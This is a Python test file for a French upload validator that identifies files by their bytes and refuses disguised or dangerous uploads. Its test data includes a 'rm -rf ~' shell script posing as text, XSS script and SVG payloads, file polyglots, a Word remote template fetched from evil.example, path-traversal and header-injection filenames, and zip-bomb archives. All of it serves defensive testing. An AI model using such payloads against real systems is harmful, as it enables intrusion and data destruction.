"""Files that people hand in: known by their bytes; what poses as something else is refused, with what to do."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest

from sceau.intake import upload_reasons as reasons
from sceau.intake.errors import UnfitUpload
from sceau.intake.filenames import file_name
from sceau.intake.uploads import EVERYTHING, KINDS, SCANS, examine

LIMIT = 50_000_000
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
WORD = '<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IEND", b"")
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"\x12\x34" * 300 + b"\xff\xd9"
WEBP = b"RIFF" + struct.pack("<I", 4 + 24) + b"WEBP" + b"VP8 " + b"\0" * 20
MP3 = (b"\xff\xfb\x90\x00" + b"\0" * 413) * 3  # 128 kbit/s at 44.1 kHz: frames of 417 bytes


def film(brand: bytes) -> bytes:
    return struct.pack(">I", 20) + b"ftyp" + brand + b"\0\0\x02\0isom" + b"\0" * 100


def archive(members: dict[str, str | bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", how) as written:
        for name, content in members.items():
            written.writestr(name, content)
    return target.getvalue()


def word(**more: str | bytes) -> bytes:
    return archive({"[Content_Types].xml": WORD, "word/document.xml": "<w/>", **more})


SHEET = archive({"[Content_Types].xml": "", "xl/workbook.xml": "<w/>"})
ODT = archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<c/>"})
GOOD = [
    (PDF, "devis.pdf", "pdf"),
    (PNG, "photo.png", "png"),
    (JPEG, "photo.jpeg", "jpeg"),
    (WEBP, "photo.webp", "webp"),
    (film(b"heic"), "IMG_1.HEIC", "heic"),
    (film(b"mp42"), "film.mp4", "mp4"),
    (film(b"qt  "), "film.MOV", "mov"),
    (film(b"M4A "), "entretien.m4a", "m4a"),
    (MP3, "entretien.mp3", "mp3"),
    (b"ID3\x04\0\0\0\0\0\0", "entretien.mp3", "mp3"),
    (word(), "dossier.docx", "docx"),
    (SHEET, "notes.xlsx", "xlsx"),
    (archive({"[Content_Types].xml": "", "ppt/presentation.xml": "<p/>"}), "oral.pptx", "pptx"),
    (ODT, "dossier.odt", "odt"),
    ("é;à\r\n1;2\r\n".encode(), "notes.csv", "csv"),
    ("BM, MZ et MM : trois lettres".encode("cp1252"), "notes.txt", "txt"),
    ("une note".encode("utf-16"), "notes.txt", "txt"),
    (b"a < b, <html> cited", "notes.md", "txt"),
]


def refused(content: bytes, name: str = "dossier.pdf", allowed=EVERYTHING) -> UnfitUpload:
    with pytest.raises(UnfitUpload) as caught:
        examine(content, name, limit=LIMIT, allowed=allowed)
    assert "{" not in caught.value.sentence("fr") + caught.value.sentence("en")
    return caught.value


@pytest.mark.parametrize(("content", "name", "kind"), GOOD)
def test_what_is_on_the_list_is_known_by_its_bytes(content, name, kind):
    for called in (name, "nothing", "facture.exe"):
        found = examine(io.BytesIO(content), called, limit=LIMIT)
        expected = "txt" if kind == "csv" and called != name else kind
        assert (found.kind, found.size) == (expected, len(content))
        assert found.media_type == KINDS[expected].media_type
        assert found.name.endswith(KINDS[expected].ending)


@pytest.mark.parametrize(
    ("content", "name", "found"),
    [
        (b"MZ\x90\0" + b"\0" * 200, "devis.pdf", "un programme Windows"),
        (b"\x7fELF\x02\x01\x01\0" + b"\0" * 100, "photo.jpg", "un programme Linux"),
        (b"#!/bin/sh\nrm -rf ~\n", "notes.txt", "un programme (script)"),
        (PAGE, "photo.png", "une page web"),
        (b"  \n\xef\xbb\xbf" + PAGE, "notes.txt", "une page web"),
        ("\ufeff<html></html>".encode("utf-16-le"), "notes.txt", "une page web"),
        (SVG, "photo.png", "une image SVG"),
        (b"<svg onload='x()'/>", "photo.jpg", "une image SVG"),
        (b"<?xml version='1.0'?><a/>", "a.txt", "du XML"),
        (b"GIF89a" + b"\0" * 20, "a.png", "une image GIF"),
        (archive({"a.txt": "x"}), "dossier.docx", "une archive ZIP"),
        (b"{\\rtf1 }", "a.docx", "un texte RTF"),
    ],
)
def test_what_poses_as_something_else_is_refused_and_named(content, name, found):
    refusal = refused(content, name)

    assert refusal.reason is reasons.NOT_TAKEN
    assert found in refusal.sentence("fr")
    assert "déposez un fichier .pdf" in refusal.sentence("fr")


def test_an_empty_file_is_told():
    assert refused(b"").reason is reasons.EMPTY


def test_what_nobody_knows_is_refused():
    assert refused(bytes(range(256)) * 20).reason is reasons.UNKNOWN


def test_more_than_the_limit_says_both_sizes():
    with pytest.raises(UnfitUpload) as caught:
        examine(PDF + b" " * 1_500_000 + b"%%EOF", "a.pdf", limit=1_000_000)
    assert "1,5 Mo, et 1 au plus" in caught.value.sentence("fr")


def test_a_kind_that_is_not_asked_for_is_refused():
    refusal = refused(MP3, "scan.pdf", SCANS)

    assert "un son MP3" in refusal.sentence("fr")
    assert "a file .pdf, .png, .jpg, .webp or .heic" in refusal.sentence("en")


@pytest.mark.parametrize("content", [PDF[:-8], PNG[:-12], JPEG[:-2], WEBP[:-4], word()[:-30]])
def test_what_ends_too_early_is_told(content):
    assert refused(content).reason is reasons.CUT


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + PAGE + PDF[8:],  # a browser that looks for itself would show a page
        JPEG[:20] + PAGE + JPEG[20:],
        PDF + archive({"a.class": "x" * 99}),  # a reader of archives would find one
        PNG + archive({"a.class": "x" * 99}),
        PNG + archive({"a.class": "x" * 99}) + b"more",
        JPEG + archive({"a.js": "x"}) + b"\xff\xd9",
    ],
)
def test_what_is_two_things_at_once_is_refused(content):
    assert refused(content).reason is reasons.TWO_THINGS


def test_a_page_before_a_pdf_is_a_page():
    assert "une page web" in refused(PAGE + PDF).sentence("fr")


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"WORD/VBAPROJECT.BIN": b"x"},
        {"word/activeX/activeX1.xml": "<a/>"},
        {"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"},
    ],
)
def test_a_program_inside_a_document_is_refused(more):
    assert refused(archive({"[Content_Types].xml": WORD, "word/document.xml": "<w/>"} | more)).reason is reasons.MACROS


def test_a_program_inside_an_open_document_is_refused():
    macro = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<c/>", "Basic/Standard/a.xml": "x"}

    assert refused(archive(macro)).reason is reasons.MACROS


def test_a_template_fetched_from_elsewhere_is_refused():
    relation = (
        '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )

    assert refused(word(**{"word/_rels/settings.xml.rels": relation})).reason is reasons.REMOTE
    link = '<Relationship Type="http://x/hyperlink" Target="https://sceau.example" TargetMode="External"/>'
    assert examine(word(**{"word/_rels/document.xml.rels": link}), "a.docx", limit=LIMIT).kind == "docx"


def test_a_document_with_a_password_is_told_how_to_save_it():
    assert refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500).reason is reasons.OLD_OR_LOCKED


def test_a_document_that_unfolds_without_measure_is_refused():
    assert refused(word(**{"word/media/a.bin": b"\0" * 30_000_000})).reason is reasons.UNFOLDS_TOO_MUCH


def test_members_that_share_their_bytes_are_refused():
    content = bytearray(word(**{"word/a.xml": "a" * 5000, "word/b.xml": "a" * 5000}))
    entries = [place for place in range(len(content) - 4) if content[place : place + 4] == b"PK\x01\x02"]
    content[entries[3] + 42 : entries[3] + 46] = content[entries[2] + 42 : entries[2] + 46]

    assert refused(bytes(content)).reason is reasons.UNFOLDS_TOO_MUCH


def test_what_a_document_holds_is_looked_at_too():
    assert examine(word(**{"word/embeddings/table.xlsx": SHEET}), "a.docx", limit=LIMIT).kind == "docx"
    for name in ("word/embeddings/a.zip", "word/a.exe", "word/a.html"):
        assert refused(word(**{name: b"x"})).reason is reasons.HOLDS_OTHERS
    nested = word(**{"word/embeddings/a.docx": word(**{"word/embeddings/b.xlsx": SHEET})})
    assert refused(nested).reason is reasons.HOLDS_OTHERS
    with_macro = word(**{"word/embeddings/a.docx": word(**{"word/vbaProject.bin": b"x"})})
    assert refused(with_macro).reason is reasons.MACROS


def test_what_would_keep_whoever_looks_at_it_busy_is_refused_at_once():
    start = time.perf_counter()
    relations = b"<" + b"attachedTemplate " * 50_000
    assert examine(word(**{"word/_rels/a.rels": relations}), "a.docx", limit=LIMIT).kind == "docx"
    assert examine(word(**{"word/_rels/a.rels": b"<" * 900_000}), "a.docx", limit=LIMIT).kind == "docx"
    assert refused(word(**{"word/_rels/a.rels": b"<a/>" * 300_000})).reason is reasons.UNFOLDS_TOO_MUCH
    many = {f"word/embeddings/{number}.xlsx": SHEET for number in range(21)}
    assert refused(word(**many)).reason is reasons.HOLDS_OTHERS
    end = b"PK\x05\x06" + b"\0" * 8 + (3_000_000).to_bytes(4, "little") + b"\0" * 6
    assert refused(b"PK\x03\x04" + b"\0" * 100 + end).reason is reasons.UNFOLDS_TOO_MUCH
    assert refused(PNG[:8] + chunk(b"tEXt", b"") * 120_000 + PNG[8:]).reason is reasons.CUT

    assert time.perf_counter() - start < 2


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\lea\\devis.PDF", "devis.pdf"),
        ("facture\u202efdp.exe", "facturefdp.exe.pdf"),
        ("a\r\nContent-Type: text/html.pdf", "html.pdf"),
        ('"; filename="x.html', "filename=x.html.pdf"),
        ("photo.jpeg", "photo.pdf"),
        ("\0\n", "document.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("أوراق.pdf", "أوراق.pdf"),
        ("é" * 300, "é" * 150 + ".pdf"),
    ],
)
def test_a_name_keeps_what_a_file_may_be_called(given, kept):
    assert examine(PDF, given, limit=LIMIT).name == kept


def test_a_name_may_have_another_word_in_its_place():
    assert file_name("...", ".pdf", otherwise="acte") == "acte.pdf"


def test_the_file_is_left_at_its_start():
    file = io.BytesIO(PDF)
    examine(file, "a.pdf", limit=LIMIT)

    assert file.tell() == 0
